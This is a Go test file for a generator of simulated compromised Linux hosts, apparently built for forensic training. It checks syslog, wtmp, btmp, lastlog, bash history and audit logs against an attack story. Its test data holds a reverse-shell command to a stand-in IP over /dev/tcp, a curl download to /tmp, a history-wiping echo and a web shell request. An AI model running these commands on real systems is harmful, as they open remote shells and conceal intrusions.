package simhost

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

var linuxHostNames = []string{"UbuntuWeb", "Ubuntu24", "Debian", "RHEL", "RHEL8Clean", "UbuntuClean"}

var syslogLine = regexp.MustCompile(`^(Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec) ( [1-9]|[12][0-9]|3[01]) ([01][0-9]|2[0-3]):[0-5][0-9]:[0-5][0-9] (\S+) ([A-Za-z][A-Za-z0-9_.\-]*)(\[[0-9]+\])?: (.+)$`)

// messageFormats are the real formats of each program's messages, written from OpenSSH, sudo, PAM,
// cron, cronie, systemd and rsyslog output, independently of the generator.
var messageFormats = map[string][]*regexp.Regexp{
	"sshd": res(
		`^Accepted (password|publickey) for [a-z_][a-z0-9_-]* from [0-9.]+ port [0-9]+ ssh2(: ED25519 SHA256:[A-Za-z0-9+/]{43})?$`,
		`^Failed password for (invalid user )?[a-z_][a-z0-9_-]* from [0-9.]+ port [0-9]+ ssh2$`,
		`^Invalid user [a-z_][a-z0-9_-]* from [0-9.]+ port [0-9]+$`,
		`^Connection closed by (invalid|authenticating) user [a-z_][a-z0-9_-]* [0-9.]+ port [0-9]+ \[preauth\]$`,
		`^pam_unix\(sshd:auth\): check pass; user unknown$`,
		`^pam_unix\(sshd:auth\): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=[0-9.]+(  user=[a-z_][a-z0-9_-]*)?$`,
		`^pam_unix\(sshd:session\): session opened for user [a-z_][a-z0-9_-]*\(uid=[0-9]+\) by \(uid=0\)$`,
		`^pam_unix\(sshd:session\): session closed for user [a-z_][a-z0-9_-]*$`,
		`^Received disconnect from [0-9.]+ port [0-9]+:11: disconnected by user$`,
		`^Disconnected from user [a-z_][a-z0-9_-]* [0-9.]+ port [0-9]+$`),
	"sudo": res(
		`^ *[a-z_][a-z0-9_-]* : TTY=pts/[0-9]+ ; PWD=/\S* ; USER=[a-z_][a-z0-9_-]* ; COMMAND=(list|/\S+( .*)?)$`,
		`^pam_unix\(sudo:session\): session opened for user [a-z_][a-z0-9_-]*\(uid=[0-9]+\) by [a-z_][a-z0-9_-]*\(uid=[0-9]+\)$`,
		`^pam_unix\(sudo:session\): session closed for user [a-z_][a-z0-9_-]*$`),
	"systemd-logind": res(`^New session [0-9]+ of user [a-z_][a-z0-9_-]*\.$`,
		`^Session [0-9]+ logged out\. Waiting for processes to exit\.$`, `^Removed session [0-9]+\.$`),
	"CRON": res(`^pam_unix\(cron:session\): session opened for user root\(uid=0\) by \(uid=0\)$`,
		`^pam_unix\(cron:session\): session closed for user root$`, `^\([a-z_]+\) CMD \(.+\)$`),
	"CROND": res(`^\([a-z_]+\) CMD(END)? \(.+\)$`),
	"crond": res(`^pam_unix\(crond:session\): session opened for user root\(uid=0\) by \(uid=0\)$`,
		`^pam_unix\(crond:session\): session closed for user root$`, `^\(root\) RELOAD \(/\S+\)$`),
	"cron":      res(`^\((root|\*system\*\S+)\) RELOAD \(\S+\)$`),
	"crontab":   res(`^\(root\) REPLACE \(root\)$`),
	"run-parts": res(`^\(/etc/cron\.hourly\) (starting|finished) 0anacron$`),
	"systemd": res(`^Starting [A-Za-z].*\.\.\.$`, `^Finished [A-Za-z].*\.$`, `^Started [A-Za-z].*\.$`, `^Reloading\.$`,
		`^[a-z0-9-]+\.service: (Deactivated successfully|Succeeded)\.$`),
	"rsyslogd":          res(`^\[origin software="rsyslogd" swVersion="[0-9.]+" x-pid="[0-9]+" x-info="https://www\.rsyslog\.com"\] rsyslogd was HUPed$`),
	"systemd-timesyncd": res(`^Network configuration changed, trying to establish connection\.$`, `^Initial synchronization to time server [0-9.]+:123 \(\S+\)\.$`),
	"chronyd":           res(`^Selected source [0-9.]+ \(\S+\)$`),
	"dnf":               res(`^Metadata cache (refreshed recently|created)\.$`),
}

func res(ps ...string) []*regexp.Regexp {
	out := make([]*regexp.Regexp, len(ps))
	for i, p := range ps {
		out[i] = regexp.MustCompile(p)
	}
	return out
}

// syslogEntry is one parsed RFC 3164 line.
type syslogEntry struct {
	t    time.Time
	host string
	prog string
	pid  string
	msg  string
}

// parseSyslog reads a syslog file, giving each line the year that puts it at or before now.
func parseSyslog(tb testing.TB, path string, now time.Time) []syslogEntry {
	tb.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		tb.Fatal(err)
	}
	var out []syslogEntry
	for i, line := range strings.Split(strings.TrimSuffix(string(b), "\n"), "\n") {
		m := syslogLine.FindStringSubmatch(line)
		if m == nil {
			tb.Errorf("%s:%d: not RFC 3164: %q", filepath.Base(path), i+1, line)
			continue
		}
		t, err := time.Parse("2006 Jan _2 15:04:05", fmt.Sprintf("%d %s", now.Year(), line[:15]))
		if err != nil {
			tb.Fatalf("%s:%d: time: %v", path, i+1, err)
		}
		if t.After(now) {
			t = t.AddDate(-1, 0, 0)
		}
		out = append(out, syslogEntry{t: t, host: m[4], prog: m[5], pid: m[6], msg: m[7]})
	}
	return out
}

func linuxLogPaths(h Host) (auth, sys, cron string) {
	if distroOf(h.OSVersion) == "rhel" {
		return "var/log/secure", "var/log/messages", "var/log/cron"
	}
	return "var/log/auth.log", "var/log/syslog", "var/log/syslog"
}

func TestLinuxLogLinesMatchRealFormats(t *testing.T) {
	for _, name := range linuxHostNames {
		h := testHosts[name]
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			root, _ := mustGenerate(t, h)
			auth, sys, cron := linuxLogPaths(h)
			short := strings.SplitN(h.Name, ".", 2)[0]
			for _, f := range slices.Compact([]string{auth, sys, cron}) {
				es := parseSyslog(t, filepath.Join(root, f), h.anchor())
				if len(es) < 100 {
					t.Errorf("%s has only %d lines", f, len(es))
				}
				for i, e := range es {
					if e.host != short {
						t.Errorf("%s:%d: host %q, want %q", f, i+1, e.host, short)
					}
					if i > 0 && e.t.Before(es[i-1].t) {
						t.Errorf("%s:%d: time goes back from %v to %v", f, i+1, es[i-1].t, e.t)
					}
					formats, ok := messageFormats[e.prog]
					if !ok {
						t.Errorf("%s:%d: unexpected program %q", f, i+1, e.prog)
						continue
					}
					if noPID := e.prog == "sudo" || e.prog == "rsyslogd"; noPID != (e.pid == "") {
						t.Errorf("%s:%d: %s with pid %q (sudo and rsyslogd log none, the others do)", f, i+1, e.prog, e.pid)
					}
					if !slices.ContainsFunc(formats, func(re *regexp.Regexp) bool { return re.MatchString(e.msg) }) {
						t.Errorf("%s:%d: %s message in no known format: %q", f, i+1, e.prog, e.msg)
					}
				}
			}
			// Only members of the admin group may use sudo on these hosts.
			admins := map[string]bool{}
			grp, _ := os.ReadFile(filepath.Join(root, "etc/group"))
			for _, l := range strings.Split(string(grp), "\n") {
				if f := strings.Split(l, ":"); len(f) == 4 && (f[0] == "sudo" || f[0] == "wheel") {
					for _, m := range strings.Split(f[3], ",") {
						admins[m] = true
					}
				}
			}
			// Each sshd process serves one connection.
			portRE := regexp.MustCompile(` port (\d+)`)
			ports := map[string]string{}
			for _, e := range parseSyslog(t, filepath.Join(root, auth), h.anchor()) {
				if m := portRE.FindStringSubmatch(e.msg); e.prog == "sshd" && m != nil {
					if old, ok := ports[e.pid]; ok && old != m[1] {
						t.Errorf("sshd%s serves ports %s and %s", e.pid, old, m[1])
					}
					ports[e.pid] = m[1]
				}
			}
			sudoRE := regexp.MustCompile(`^ *(\S+) : TTY=`)
			for _, e := range parseSyslog(t, filepath.Join(root, auth), h.anchor()) {
				if m := sudoRE.FindStringSubmatch(e.msg); e.prog == "sudo" && m != nil && !admins[m[1]] {
					t.Errorf("%s ran sudo but is not in the admin group %v", m[1], admins)
				}
			}
			checkLines(t, root, "var/log/dpkg.log", `^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d (startup (archives unpack|packages configure)|upgrade \S+:amd64 \S+ \S+|configure \S+:amd64 \S+ <none>|status (half-configured|unpacked|half-installed|installed) \S+:amd64 \S+|trigproc \S+:amd64 \S+ <none>)$`)
			checkLines(t, root, "var/log/apt/history.log", `^(|Start-Date: \d{4}-\d\d-\d\d  \d\d:\d\d:\d\d|End-Date: \d{4}-\d\d-\d\d  \d\d:\d\d:\d\d|Commandline: .+|Upgrade: ([a-z0-9.+-]+:amd64 \([^,()]+, [^,()]+\)(, )?)+)$`)
			checkLines(t, root, "var/log/dnf.log", `^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+0000 (INFO|DEBUG|DDEBUG) .+$`)
			checkLines(t, root, "var/log/dnf.rpm.log", `^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+0000 SUBDEBUG (Upgrade|Upgraded): \S+\.x86_64$`)
			for _, web := range []string{"var/log/nginx/access.log", "var/log/apache2/access.log", "var/log/httpd/access_log"} {
				checkLines(t, root, web, `^[0-9.]+ - - \[\d\d/[A-Z][a-z]{2}/\d{4}:\d\d:\d\d:\d\d [+-]\d{4}\] "(GET|POST|HEAD) \S+ HTTP/1\.[01]" \d{3} \d+ "[^"]*" "[^"]*"$`)
			}
			checkLines(t, root, "var/log/audit/audit.log", `^type=[A-Z_]+ msg=audit\(\d{10}\.\d{3}:\d+\): \S.*$`)
		})
	}
}

// checkLines checks every line of an optional file against a format.
func checkLines(tb testing.TB, root, rel, format string) {
	tb.Helper()
	b, err := os.ReadFile(filepath.Join(root, rel))
	if os.IsNotExist(err) {
		return
	}
	if err != nil {
		tb.Fatal(err)
	}
	re := regexp.MustCompile(format)
	for i, line := range strings.Split(strings.TrimSuffix(string(b), "\n"), "\n") {
		if !re.MatchString(line) {
			tb.Errorf("%s:%d: %q does not match the format", rel, i+1, line)
		}
	}
}

// rawUtmp is a struct utmp decoded from glibc's x86_64 layout, written here from <bits/utmp.h>.
type rawUtmp struct {
	typ     int16
	pid     int32
	line    string
	id      string
	user    string
	host    string
	session int32
	t       time.Time
	addr    netip.Addr
}

func cstr(b []byte) string {
	if i := bytes.IndexByte(b, 0); i >= 0 {
		b = b[:i]
	}
	return string(b)
}

func decodeUtmp(tb testing.TB, path string) []rawUtmp {
	tb.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		tb.Fatal(err)
	}
	if len(b)%384 != 0 {
		tb.Fatalf("%s: %d bytes, not a whole number of 384-byte records", path, len(b))
	}
	var out []rawUtmp
	for o := 0; o < len(b); o += 384 {
		r := b[o : o+384]
		u := rawUtmp{
			typ:     int16(binary.LittleEndian.Uint16(r[0:2])),
			pid:     int32(binary.LittleEndian.Uint32(r[4:8])),
			line:    cstr(r[8:40]),
			id:      cstr(r[40:44]),
			user:    cstr(r[44:76]),
			host:    cstr(r[76:332]),
			session: int32(binary.LittleEndian.Uint32(r[336:340])),
			t: time.Unix(int64(int32(binary.LittleEndian.Uint32(r[340:344]))),
				int64(int32(binary.LittleEndian.Uint32(r[344:348])))*1000).UTC(),
		}
		u.addr = netip.AddrFrom4([4]byte(r[348:352]))
		if !bytes.Equal(r[352:364], make([]byte, 12)) {
			u.addr = netip.AddrFrom16([16]byte(r[348:364]))
		}
		if !bytes.Equal(r[364:384], make([]byte, 20)) {
			tb.Errorf("%s: record %d: reserved bytes not zero", path, o/384)
		}
		out = append(out, u)
	}
	return out
}

type loginKey struct {
	user, host string
	t          time.Time
}

func fingerprint(line string) string {
	f := strings.Fields(line)
	blob, _ := base64.StdEncoding.DecodeString(f[1])
	sum := sha256.Sum256(blob)
	return "SHA256:" + base64.RawStdEncoding.EncodeToString(sum[:])
}

var (
	acceptedRE     = regexp.MustCompile(`^Accepted (password|publickey) for (\S+) from (\S+) port \d+ ssh2(: ED25519 (\S+))?$`)
	failedRE       = regexp.MustCompile(`^Failed password for (invalid user )?(\S+) from (\S+) port \d+ ssh2$`)
	disconnectedRE = regexp.MustCompile(`^Disconnected from user (\S+) (\S+) port \d+$`)
)

// TestLinuxStoryAgrees reads the artifacts the way an analyst would and checks that they tell the
// Story: the brute force in auth.log, the same logins in wtmp, btmp and lastlog, the commands in
// history, the persistence, the payload and the key.
func TestLinuxStoryAgrees(t *testing.T) {
	for _, name := range linuxHostNames {
		h := testHosts[name]
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			root, st := mustGenerate(t, h)
			authPath, sysPath, cronPath := linuxLogPaths(h)
			auth := parseSyslog(t, filepath.Join(root, authPath), h.anchor())
			var accepted, failed []loginKey
			var fromAttacker []syslogEntry
			disconnects := 0
			for _, e := range auth {
				if e.prog != "sshd" {
					continue
				}
				if m := acceptedRE.FindStringSubmatch(e.msg); m != nil {
					accepted = append(accepted, loginKey{m[2], m[3], e.t})
					if m[3] == st.AttackerIP && m[2] == "root" && fingerprint(st.AuthorizedKey) != m[5] {
						t.Errorf("attacker's root login with key %s, story key is %s", m[5], fingerprint(st.AuthorizedKey))
					}
				}
				if m := failedRE.FindStringSubmatch(e.msg); m != nil {
					failed = append(failed, loginKey{m[2], m[3], e.t})
					if m[3] == st.AttackerIP {
						fromAttacker = append(fromAttacker, e)
					}
				}
				if disconnectedRE.MatchString(e.msg) {
					disconnects++
				}
			}
			if !h.Compromised {
				if st.AttackerIP != "" {
					t.Fatalf("clean host has a story")
				}
			} else {
				if len(fromAttacker) != st.Failures {
					t.Errorf("auth log has %d failures from %s, story says %d", len(fromAttacker), st.AttackerIP, st.Failures)
				}
				if len(fromAttacker) > 0 && !fromAttacker[0].t.Equal(st.BruteForceStart) {
					t.Errorf("first failure at %v, story says %v", fromAttacker[0].t, st.BruteForceStart)
				}
				i := slices.IndexFunc(accepted, func(k loginKey) bool { return k.host == st.AttackerIP })
				if i < 0 {
					t.Fatalf("no accepted login from %s", st.AttackerIP)
				}
				if k := accepted[i]; k.user != st.User || !k.t.Equal(st.FirstSuccess) {
					t.Errorf("first attacker login %+v, story says %s at %v", k, st.User, st.FirstSuccess)
				}
				if n := len(fromAttacker); n > 0 && !fromAttacker[n-1].t.Before(st.FirstSuccess) {
					t.Errorf("failures continue after the first success")
				}
				if st.Failures < 20 {
					t.Errorf("story has only %d failures: not a brute force", st.Failures)
				}
				checkLinuxFiles(t, root, h, st, sysPath, cronPath)
			}

			// wtmp holds exactly the logins of auth.log and one logout per disconnect.
			wtmp := decodeUtmp(t, filepath.Join(root, "var/log/wtmp"))
			var logins []loginKey
			logouts := 0
			for _, u := range wtmp {
				switch u.typ {
				case 7:
					logins = append(logins, loginKey{u.user, u.host, u.t})
					if u.addr.String() != u.host || !strings.HasPrefix(u.line, "pts/") || u.id != u.line[1:] {
						t.Errorf("wtmp login %+v: addr, line or id inconsistent", u)
					}
				case 8:
					logouts++
				}
			}
			if wtmp[0].typ != 2 || wtmp[0].user != "reboot" {
				t.Errorf("wtmp starts with %+v, want the boot record", wtmp[0])
			}
			sameLogins(t, "wtmp logins", logins, accepted)
			if logouts != disconnects {
				t.Errorf("wtmp has %d logouts, auth log %d disconnects", logouts, disconnects)
			}

			// btmp holds every failed password, invalid users included.
			var bad []loginKey
			for _, u := range decodeUtmp(t, filepath.Join(root, "var/log/btmp")) {
				if u.typ != 6 || u.line != "ssh:notty" {
					t.Errorf("btmp record %+v: want LOGIN_PROCESS on ssh:notty", u)
				}
				bad = append(bad, loginKey{u.user, u.host, u.t})
			}
			sameLogins(t, "btmp", bad, failed)

			checkLastlog(t, root, accepted)
		})
	}
}

func sameLogins(tb testing.TB, what string, got, want []loginKey) {
	tb.Helper()
	cmp := func(a, b loginKey) int {
		if c := a.t.Compare(b.t); c != 0 {
			return c
		}
		return strings.Compare(a.user+a.host, b.user+b.host)
	}
	slices.SortFunc(got, cmp)
	slices.SortFunc(want, cmp)
	if !slices.Equal(got, want) {
		tb.Errorf("%s: %d records, auth log has %d; first difference near %v", what, len(got), len(want),
			firstDiff(got, want))
	}
}

func firstDiff(a, b []loginKey) string {
	for i := range min(len(a), len(b)) {
		if a[i] != b[i] {
			return fmt.Sprintf("%+v vs %+v", a[i], b[i])
		}
	}
	return "the end"
}

// checkLastlog decodes lastlog (int32 time, char line[32], char host[256]: 292 bytes per uid) and
// checks each user's entry is their last login in auth.log.
func checkLastlog(tb testing.TB, root string, accepted []loginKey) {
	tb.Helper()
	uids := map[string]int{}
	pw, _ := os.ReadFile(filepath.Join(root, "etc/passwd"))
	for _, line := range strings.Split(string(pw), "\n") {
		f := strings.Split(line, ":")
		if len(f) == 7 {
			uids[f[0]], _ = strconv.Atoi(f[2])
		}
	}
	last := map[string]loginKey{}
	for _, k := range accepted {
		if k.t.After(last[k.user].t) {
			last[k.user] = k
		}
	}
	b, err := os.ReadFile(filepath.Join(root, "var/log/lastlog"))
	if err != nil {
		tb.Fatal(err)
	}
	if len(b)%292 != 0 {
		tb.Fatalf("lastlog is %d bytes, not a multiple of 292", len(b))
	}
	for o := 0; o < len(b); o += 292 {
		uid := o / 292
		tm := int64(int32(binary.LittleEndian.Uint32(b[o:])))
		line, host := cstr(b[o+4:o+36]), cstr(b[o+36:o+292])
		var name string
		for n, u := range uids {
			if u == uid {
				name = n
			}
		}
		want, ok := last[name]
		switch {
		case !ok && tm != 0:
			tb.Errorf("lastlog uid %d (%q) has a login at %d but auth log has none", uid, name, tm)
		case ok && (tm != want.t.Unix() || host != want.host || !strings.HasPrefix(line, "pts/")):
			tb.Errorf("lastlog uid %d (%s) = %d %s %s, want last login %+v", uid, name, tm, line, host, want)
		}
		delete(last, name)
	}
	for name := range last {
		tb.Errorf("user %s logged in but has no lastlog entry", name)
	}
}

func checkLinuxFiles(t *testing.T, root string, h Host, st Story, sysPath, cronPath string) {
	t.Helper()
	read := func(p string) string {
		b, err := os.ReadFile(filepath.Join(root, strings.TrimPrefix(p, "/")))
		if err != nil {
			t.Errorf("read %s: %v", p, err)
		}
		return string(b)
	}
	hist := read("/root/.bash_history") + read("/home/"+st.User+"/.bash_history")
	lines := strings.Split(hist, "\n")
	for _, c := range st.Commands {
		if !slices.Contains(lines, c) {
			t.Errorf("command %q is in no history", c)
		}
	}
	pay := read(st.PayloadPath)
	if sum := sha256.Sum256([]byte(pay)); hex.EncodeToString(sum[:]) != st.PayloadSHA256 || !strings.HasPrefix(pay, "\x7fELF\x02\x01\x01") {
		t.Errorf("payload %s: wrong hash or not an ELF64 file", st.PayloadPath)
	}
	if !strings.Contains(read("/root/.ssh/authorized_keys"), st.AuthorizedKey) {
		t.Errorf("root's authorized_keys lacks the attacker key")
	}
	persist := read(st.PersistencePath)
	if !strings.Contains(persist, st.PayloadPath) {
		t.Errorf("persistence %s does not run the payload: %q", st.PersistencePath, persist)
	}
	sys := read(sysPath) + read(cronPath)
	switch {
	case strings.HasPrefix(st.PersistencePath, "/etc/systemd/"):
		if !strings.Contains(sys, "systemd[1]: Started ") || !strings.Contains(sys, "Reloading.") {
			t.Errorf("no systemd reload/start for the malicious unit")
		}
	default:
		if !strings.Contains(sys, "CMD ("+st.PayloadPath+" >/dev/null 2>&1)") {
			t.Errorf("cron never ran the payload")
		}
		if strings.Contains(st.PersistencePath, "spool") && !strings.Contains(sys, "(root) REPLACE (root)") {
			t.Errorf("no crontab REPLACE line")
		}
	}
	if !strings.Contains(hist, "bash -i >& /dev/tcp/") {
		t.Errorf("no reverse shell in history")
	}
	if st.WebShell != "" {
		logs := read("/var/log/" + webLogDir(newPlan(h)) + "/access" + webLogSuffix(newPlan(h)))
		ws := strings.TrimPrefix(st.WebShell, "/var/www/html")
		if !strings.Contains(logs, st.AttackerIP+" - - [") || !strings.Contains(logs, "\"GET "+ws+"?c=id HTTP/1.1\" 200 ") {
			t.Errorf("access log lacks the attacker's web shell requests to %s", ws)
		}
	}
	if distroOf(h.OSVersion) == "rhel" {
		audit := read("/var/log/audit/audit.log")
		if n := strings.Count(audit, "addr="+st.AttackerIP+" terminal=ssh res=failed"); n != st.Failures {
			t.Errorf("audit.log has %d failed USER_AUTH from the attacker, story %d", n, st.Failures)
		}
		if !strings.Contains(audit, `a0="chmod" a1="+x" a2="`+st.PayloadPath+`"`) {
			t.Errorf("audit.log lacks the chmod of the payload")
		}
		if !strings.Contains(audit, `exe="`+st.PayloadPath+`"`) {
			t.Errorf("audit.log lacks the execution of the payload")
		}
	}
}

// TestUtmpdumpReadsRecords has util-linux's utmpdump read wtmp, btmp and utmp and compares its view with
// the decoder above. utmpdump is in Debian's base system; in CI its absence is an error.
func TestUtmpdumpReadsRecords(t *testing.T) {
	bin, err := exec.LookPath("utmpdump")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatalf("utmpdump (util-linux) not found: %v", err)
		}
		t.Skip("utmpdump not installed")
	}
	line := regexp.MustCompile(`^\[(\d+)\] \[(\d+)\] \[(.{0,4}?) *\] \[(.*?) *\] \[(.*?) *\] \[(.*?) *\] \[(.*?) *\] \[(\S+)\]$`)
	for _, name := range []string{"UbuntuWeb", "RHEL"} {
		root, _ := mustGenerate(t, testHosts[name])
		for _, f := range []string{"var/log/wtmp", "var/log/btmp", "run/utmp"} {
			path := filepath.Join(root, f)
			out, err := exec.Command(bin, path).Output()
			if err != nil {
				t.Fatalf("utmpdump %s: %v", f, err)
			}
			recs := decodeUtmp(t, path)
			var got []string
			sc := bufio.NewScanner(bytes.NewReader(out))
			for sc.Scan() {
				m := line.FindStringSubmatch(sc.Text())
				if m == nil {
					t.Errorf("%s: unexpected utmpdump line %q", f, sc.Text())
					continue
				}
				got = append(got, strings.Join(m[1:], "|"))
			}
			if len(got) != len(recs) {
				t.Fatalf("%s: utmpdump shows %d records, decoder %d", f, len(got), len(recs))
			}
			for i, r := range recs {
				addr := r.addr.String()
				if r.addr.IsUnspecified() || !r.addr.IsValid() {
					addr = "0.0.0.0"
				}
				want := strings.Join([]string{fmt.Sprint(r.typ), fmt.Sprintf("%05d", r.pid), r.id, r.user, r.line, r.host, addr,
					r.t.Format("2006-01-02T15:04:05,000000+00:00")}, "|")
				if got[i] != want {
					t.Errorf("%s record %d: utmpdump %q, decoder %q", f, i, got[i], want)
				}
			}
		}
	}
}

func TestBashHistoryFormat(t *testing.T) {
	stamp := regexp.MustCompile(`^#\d{10}$`)
	for _, name := range linuxHostNames {
		h := testHosts[name]
		root, _ := mustGenerate(t, h)
		files, _ := filepath.Glob(filepath.Join(root, "home/*/.bash_history"))
		files = append(files, filepath.Join(root, "root/.bash_history"))
		withStamps := 0
		for _, f := range files {
			b, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			lines := strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
			if !stamp.MatchString(lines[0]) {
				continue
			}
			withStamps++
			for i := 0; i < len(lines); i += 2 {
				if !stamp.MatchString(lines[i]) || i+1 >= len(lines) || lines[i+1] == "" || stamp.MatchString(lines[i+1]) {
					t.Fatalf("%s:%d: HISTTIMEFORMAT history must alternate #<epoch> and a command", f, i+1)
				}
				sec, _ := strconv.ParseInt(lines[i][1:], 10, 64)
				if at := time.Unix(sec, 0); at.After(h.anchor()) || at.Before(h.anchor().AddDate(0, 0, -60)) {
					t.Errorf("%s:%d: time %v outside the host's history", f, i+1, at)
				}
			}
			info, _ := os.Stat(f)
			sec, _ := strconv.ParseInt(lines[len(lines)-2][1:], 10, 64)
			if info.ModTime().Before(time.Unix(sec, 0)) {
				t.Errorf("%s: mtime %v before its last command %v", f, info.ModTime(), time.Unix(sec, 0))
			}
		}
		if len(files) < 3 {
			t.Errorf("%s: only %d histories", name, len(files))
		}
		t.Logf("%s: %d of %d histories with time stamps", name, withStamps, len(files))
	}
}

func TestProgramsSplitsCommands(t *testing.T) {
	cases := []struct {
		cmd  string
		want [][]string
	}{
		{"id", [][]string{{"id"}}},
		{"chmod +x /tmp/.x", [][]string{{"chmod", "+x", "/tmp/.x"}}},
		{"ps aux | grep x", [][]string{{"ps", "aux"}, {"grep", "x"}}},
		{"cd /tmp && ls -la", [][]string{{"ls", "-la"}}},
		{"(crontab -l 2>/dev/null; echo 'x') | crontab -", [][]string{{"crontab", "-l"}, {"crontab", "-"}}},
		{"nohup /tmp/.x >/dev/null 2>&1 &", [][]string{{"nohup", "/tmp/.x"}}},
		{"nohup bash -c 'bash -i >& /dev/tcp/1.2.3.4/53 0>&1' >/dev/null 2>&1 &", [][]string{{"nohup", "bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/53 0>&1"}}},
		{`echo "" > ~/.bash_history`, nil},
		{"curl -fsSL http://x/y -o /tmp/y", [][]string{{"curl", "-fsSL", "http://x/y", "-o", "/tmp/y"}}},
	}
	for _, c := range cases {
		if got := programs(c.cmd); fmt.Sprint(got) != fmt.Sprint(c.want) {
			t.Errorf("programs(%q) = %q, want %q", c.cmd, got, c.want)
		}
	}
}
